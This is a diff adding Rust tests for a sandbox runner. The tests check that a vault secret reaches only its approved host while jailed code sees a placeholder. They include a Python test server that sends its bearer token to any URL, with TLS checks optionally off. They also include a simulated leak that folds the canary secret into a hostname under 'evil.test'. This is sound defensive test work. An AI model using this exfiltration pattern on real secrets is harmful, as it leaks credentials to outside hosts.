@@ -1,5 +1,7 @@
 //! Real clients in a real jail hold a placeholder, and the host that they speak to gets the secret.
 
+mod world;
+
 use std::convert::Infallible;
 use std::io::Read;
 use std::path::Path;
@@ -21,15 +23,19 @@ use runner::vault::Value;
 use runner::{Listen, RunnerConfig};
 use rustls::ServerConfig;
 use rustls::pki_types::{PrivateKeyDer, PrivatePkcs8KeyDer};
+use serde_json::{Value as Json, json};
 use tempfile::TempDir;
 use tokio::net::TcpListener;
 use tokio::sync::mpsc;
 use tokio::task::JoinSet;
 use tokio_rustls::TlsAcceptor;
+use vault::BoxKey;
 use wire::egress::PrivateHost;
 use wire::report::Verdict;
 use wire::spec::{Limits, ServiceSpec, Source};
 use wire::{EgressRule, Tier};
+use world::World;
+use world::broker::{Person, material, refer};
 
 const CANARY: &str = "canary-9e41c7/of+the=vault";
 const SOON: Duration = Duration::from_secs(60);
@@ -169,7 +175,7 @@ async fn jailed(host: &Host, argv: &[&str]) -> Option<Jailed> {
         writable: vec![],
         uid,
         limits: Limits { memory_mb: 2048, ..Limits::default() },
-        rules: Rules { allow: names.map(rule).into(), learn_until: None, inject: injection },
+        rules: Rules { allow: names.map(rule).into(), inject: injection, ..Rules::default() },
         trust,
         private: vec![],
         ledger: ledger.clone(),
@@ -334,4 +340,112 @@ async fn node_uses_a_secret_that_it_never_holds() {
     assert!(said.contains("FAILED "), "b.test is nobody that the jail trusts: {said}");
     jailed.holds_no_secret();
     jailed.end(4).await;
+}
+
+/// A server that asks hosts with its token, whoever they are.
+const SERVER: &str = r#"
+import json, os, ssl, sys, urllib.request
+anybody = ssl._create_unverified_context()
+def call(name, asked):
+    if name == "env":
+        return os.environ.get(asked["name"], "undefined")
+    context = anybody if asked.get("anybody") else None
+    try:
+        request = urllib.request.Request(asked["url"], headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
+        return urllib.request.urlopen(request, timeout=20, context=context).read().decode()
+    except Exception as error:
+        return "FAILED " + repr(error)
+for line in sys.stdin:
+    asked = json.loads(line)
+    if "id" not in asked: continue
+    result = {}
+    if asked["method"] == "initialize":
+        result = {"protocolVersion": "2025-06-18", "capabilities": {"tools": {}}, "serverInfo": {"name": "p", "version": "1"}}
+    elif asked["method"] == "tools/list":
+        result = {"tools": [{"name": name, "inputSchema": {"type": "object"}} for name in ["env", "fetch"]]}
+    elif asked["method"] == "tools/call":
+        text = call(asked["params"]["name"], asked["params"]["arguments"])
+        result = {"content": [{"type": "text", "text": text}]}
+    print(json.dumps({"jsonrpc": "2.0", "id": asked["id"], "result": result}), flush=True)
+"#;
+
+/// From a sealed entry and its owner's consent to the header that the host gets.
+async fn from_the_vault(tier: &str) {
+    let mut host = host().await;
+    let dir = tempfile::tempdir().expect("a directory");
+    let ca = dir.path().join("host.pem");
+    std::fs::write(&ca, &host.ca).expect("written");
+    let port = host.port;
+    let at = |name: &str| format!("{name}.test:{port}");
+    let private = |name: &str| format!("private={}=127.0.0.1", at(name));
+    let settings = [private("a"), private("b"), format!("extra_ca={}", ca.display()), format!("tier={tier}")];
+    // A light jail sees no other Python than the system's.
+    let system = [("PATH", "/usr/bin:/bin")];
+    let world = World::start_with(&settings.each_ref().map(String::as_str), &system).await;
+    let (owner, key) = (Person::new(1), BoxKey::generate());
+    world.unlock().await;
+    world.trust(&owner, &key).await;
+    let wish = |inject: bool| {
+        let mut wish = world.wish(&[]);
+        wish["policy"] = json!({"min_isolation": "light"});
+        wish["spec"]["runtime"] = json!("python");
+        wish["spec"]["entry"] = json!("server.py");
+        wish["spec"]["network"] = json!([at("a"), at("b"), "*.c.test"]);
+        if inject {
+            refer(&mut wish, "TOKEN", Some(&owner), "token", None);
+            wish["spec"]["inject"] = json!([at("a")]);
+        }
+        wish
+    };
+    let archive = json!(world.upload_files(&[("server.py", SERVER.as_bytes())]).await);
+    let with_archive = |mut wish: Json| {
+        wish["spec"]["source"]["sha256"] = archive.clone();
+        wish
+    };
+    let pin = world.pin_of(&with_archive(wish(false))).await;
+    let mut wish = with_archive(wish(true));
+    wish["vault"] = material(&[owner.text(&key, "token", 1, CANARY)], &[owner.agree("app", &wish, &pin)]);
+    let ready = world.outcome("app", &wish).await;
+    assert_eq!((&ready["phase"], &ready["tier"]), (&json!("ready"), &json!(tier)), "{ready}");
+    let placeholder = world.text("app", "env", json!({"name": "TOKEN"})).await;
+    assert!(placeholder.starts_with("cmsec-"), "{placeholder}");
+    let fetch =
+        |url: String, anybody: bool| world.text("app", "fetch", json!({"url": url, "anybody": anybody}));
+    let said = fetch(format!("https://{}/x", at("a")), false).await;
+    assert!(said.contains(&format!("authorization: Bearer {placeholder}")), "{said}");
+    assert!(host.hears().await.contains(&format!("authorization: Bearer {CANARY}\n")));
+    fetch(format!("https://{}/y", at("b")), true).await;
+    assert!(host.hears().await.contains(&format!("authorization: Bearer {placeholder}\n")), "not for b");
+    assert_eq!(world.openings(0).await.len(), 1);
+    // Whatever of it a service writes into a name is not told, whether the name is allowed or not.
+    let folded = CANARY.replace(['/', '+', '='], "-");
+    for name in [format!("{folded}.evil.test"), format!("{folded}.c.test")] {
+        assert!(fetch(format!("https://{name}/"), true).await.starts_with("FAILED"));
+    }
+    let told = world.until("app", |report| {
+        let hosts = report["egress"].as_array()?;
+        (hosts.iter().filter(|host| host["host"] == "[secret]").count() == 2).then(|| report.clone())
+    });
+    let told = told.await;
+    assert!(!told.to_string().contains("canary"), "{told}");
+    let injected = |host: &str| {
+        let hosts = told["egress"].as_array().expect("a list").iter();
+        hosts
+            .filter(|told| told["host"] == host)
+            .map(|told| told["injected"].as_u64().unwrap_or(0))
+            .sum::<u64>()
+    };
+    assert_eq!((injected("a.test"), injected("b.test")), (1, 0), "{told}");
+    let log = std::fs::read_to_string(world.dir.path().join("log")).expect("a log");
+    assert!(!log.contains("canary"), "{log}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_entry_of_the_vault_reaches_its_host_and_not_the_strict_jail() {
+    from_the_vault("strict").await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_entry_of_the_vault_reaches_its_host_and_not_the_light_jail() {
+    from_the_vault("light").await;
 }
